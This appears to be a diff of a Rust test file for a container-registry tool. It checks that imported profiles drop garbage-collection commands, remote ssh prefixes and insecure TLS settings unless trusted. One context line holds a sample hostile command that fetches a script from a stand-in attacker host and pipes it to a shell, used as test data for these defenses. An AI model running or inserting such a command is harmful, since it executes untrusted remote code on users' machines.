@@ -556,6 +556,7 @@ async fn an_imported_file_brings_no_commands_or_disabled_tls_unless_asked() {
 
     let trust = berth_core::ImportTrust { gc_commands: true, insecure_tls: true };
     let r = b.import_profile(export, Some("trusted".into()), trust).await.unwrap();
+    assert_eq!(r.profile.gc.before.as_deref(), Some("touch /tmp/before"));
     assert_eq!(
         r.profile.gc.command.as_deref(),
         Some("registry garbage-collect /etc/docker/registry/config.yml && curl http://evil.invalid/x | sh")
@@ -709,4 +710,41 @@ async fn a_token_service_on_another_host_gets_no_password_until_trusted() {
     let moved = b.edit_profile("tok", EditProfileRequest { url: Some(reg.url()), ..Default::default() }).await.unwrap();
     assert!(moved.tls.trusted_token_services.is_empty(), "{:?}", moved.tls);
     assert!(!moved.has_password);
+}
+
+/// The storage settings (root and remote prefix): an absolute root only, the remote prefix confirmed
+/// like a GC command and dropped from an imported file unless trusted, the root kept; empty clears.
+#[tokio::test]
+async fn storage_settings_are_checked_confirmed_and_dropped_on_import() {
+    let tmp = tempfile::tempdir().unwrap();
+    let b = berth_in_memory(&tmp.path().join("data")).await;
+    b.add_profile(AddProfileRequest { name: "lab".into(), url: "http://127.0.0.1:5000".into(), ..Default::default() })
+        .await
+        .unwrap();
+    let relative = EditProfileRequest { gc_storage_root: Some("var/lib/registry".into()), ..Default::default() };
+    let err = b.edit_profile("lab", relative).await.unwrap_err();
+    assert!(err.message.contains("not an absolute path"), "{err:?}");
+    assert_eq!(err.fix.as_ref().map(|f| f.action.clone()), Some(berth_core::FixAction::EditProfile {
+        profile: "lab".into(),
+        field: berth_core::ProfileField::GcStorageRoot
+    }));
+    let req = EditProfileRequest {
+        gc_storage_root: Some("/var/lib/registry".into()),
+        gc_remote: Some("ssh admin@reg".into()),
+        ..Default::default()
+    };
+    let confirm = b.gc_commands_to_confirm("lab", &req).await.unwrap();
+    assert_eq!(confirm, vec![("storage command prefix".to_string(), "ssh admin@reg".to_string())]);
+    let p = b.edit_profile("lab", req).await.unwrap();
+    assert_eq!((p.gc.storage_root.as_deref(), p.gc.remote.as_deref()), (Some("/var/lib/registry"), Some("ssh admin@reg")));
+
+    let export = b.export_profile("lab").await.unwrap();
+    let r = b.import_profile(export, Some("copy".into()), berth_core::ImportTrust::default()).await.unwrap();
+    assert_eq!(r.profile.gc.storage_root.as_deref(), Some("/var/lib/registry"), "a path runs nothing: kept");
+    assert_eq!(r.profile.gc.remote, None, "a command prefix is dropped");
+    assert!(r.dropped.iter().any(|d| d.contains("ssh admin@reg")), "{:?}", r.dropped);
+
+    let clear = EditProfileRequest { gc_storage_root: Some(String::new()), gc_remote: Some(" ".into()), ..Default::default() };
+    let p = b.edit_profile("lab", clear).await.unwrap();
+    assert_eq!((p.gc.storage_root, p.gc.remote), (None, None));
 }
